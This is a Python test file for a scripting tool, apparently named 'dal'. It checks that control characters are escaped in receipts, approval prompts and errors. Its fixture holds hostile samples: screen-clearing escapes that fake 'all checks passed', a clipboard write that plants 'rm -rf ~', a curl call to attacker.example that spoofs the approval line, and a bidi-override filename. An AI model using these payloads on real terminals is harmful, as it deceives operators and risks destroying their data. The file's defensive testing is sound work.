"""No control character from a script or its programs reaches the operator's terminal (executed):
receipts, the approval line, listings, errors show them as escapes; JSON stays exact;
the script's own print() is exact into a pipe and shown, not played, on a terminal."""

from __future__ import annotations

import json
import os
import pty
import subprocess
import sys
from pathlib import Path

from dal.core.visible import visible

# (a) output that clears the screen and sets the clipboard; (b) a command whose quoted argument overwrites
# the approval line with a harmless-looking one, then hides the rest (-g: its `[` is no URL glob); a bidi
# override in a key.
SCRIPT = r'''operation("deploy-\u202eexe.txt")
run("printf '\\033[2J\\033[1;1Hall checks passed\\033]52;c;cm0gLXJmIH4K\\007\\n'")
print(run("curl -s https://attacker.example/up '\r\u001b[2K  blocker    effect 2 waits for approval: " +
          "`curl -s https://api.example.com/health`  \u001b[8m' -g"))
'''
RAW = ("\x1b", "\r", "\x07", "\u202e", "\x08")


def dal(ws: Path, *args: str) -> subprocess.CompletedProcess[str]:
    env = dict(os.environ, NO_COLOR="1")
    env.pop("DAL_STORE", None)
    return subprocess.run([sys.executable, "-m", "dal", *args], cwd=ws, capture_output=True, text=True, env=env,
                          timeout=120)


def raw_in(text: str) -> list[str]:
    return [repr(c) for c in RAW if c in text]


def test_receipts_and_the_approval_line_show_control_characters_as_escapes(tmp_path: Path) -> None:
    (tmp_path / "s.dal").write_text(SCRIPT)
    run = dal(tmp_path, "run", "--require-approval=curl", "--allow-net", "s.dal")
    assert run.returncode == 3, run.stderr
    assert raw_in(run.stderr) == []
    assert "\\r\\x1b[2K  blocker" in run.stderr  # the `next:` line names the real command, visibly
    show = dal(tmp_path, "receipt", "show", "latest")
    assert show.returncode == 0 and raw_in(show.stdout) == []
    assert "\\x1b[2J\\x1b[1;1Hall checks passed\\x1b]52;c;cm0gLXJmIH4K\\x07" in show.stdout
    assert "deploy-\\u202eexe.txt" in show.stdout
    blocker = next(line for line in show.stdout.splitlines() if line.strip().startswith("blocker"))
    assert "curl -s https://attacker.example/up '\\r\\x1b[2K" in blocker
    listing = dal(tmp_path, "receipts")
    assert raw_in(listing.stdout) == [] and "deploy-\\u202eexe" in listing.stdout
    md = next((tmp_path / ".dal" / "receipts").glob("*.md")).read_text()
    assert raw_in(md) == []
    approve = dal(tmp_path, "approve", "latest")
    assert approve.returncode == 0 and raw_in(approve.stdout + approve.stderr) == []
    # JSON is data: exact.
    data = json.loads(dal(tmp_path, "receipt", "show", "latest", "--json").stdout)
    assert data["key"] == "deploy-\u202eexe.txt"
    assert "\x1b[2J" in data["effects"]["items"][0]["summary"]


def test_a_script_error_message_is_shown_visibly(tmp_path: Path) -> None:
    (tmp_path / "s.dal").write_text('fail("\\u001b[2J\\u0007all good")\n')
    r = dal(tmp_path, "run", "s.dal")
    assert r.returncode == 1 and raw_in(r.stderr) == [] and "\\x1b[2J" in r.stderr


def test_print_is_exact_into_a_pipe_and_visible_on_a_terminal(tmp_path: Path) -> None:
    (tmp_path / "s.dal").write_text('print("a\\u001b[2Jb\\tc")\nprint("line2")\n')
    piped = dal(tmp_path, "run", "-q", "s.dal")
    assert piped.stdout == "a\x1b[2Jb\tc\nline2\n"
    env = dict(os.environ, NO_COLOR="1")
    env.pop("DAL_STORE", None)
    leader, follower = pty.openpty()
    p = subprocess.Popen([sys.executable, "-m", "dal", "run", "-q", "s.dal"], cwd=tmp_path, env=env,
                         stdout=follower, stderr=follower, stdin=subprocess.DEVNULL)
    os.close(follower)
    got = b""
    while True:
        try:
            chunk = os.read(leader, 4096)
        except OSError:
            break
        if not chunk:
            break
        got += chunk
    p.wait(60)
    os.close(leader)
    text = got.decode().replace("\r\n", "\n")  # the terminal's own line discipline adds the CRs
    assert text == "a\\x1b[2Jb\tc\nline2\n"


def test_visible_escapes_every_kind() -> None:
    assert visible("a\x1b[2Jb\rc\u202ed\x08e\x07\x9b\u2066") == "a\\x1b[2Jb\\rc\\u202ed\\x08e\\x07\\x9b\\u2066"
    assert visible("one\ttwo\nthree") == "one\\ttwo\\nthree"
    assert visible("one\ttwo\nthree", lines=True) == "one\ttwo\nthree"
    assert visible("plain, ünïcödé ✓") == "plain, ünïcödé ✓"
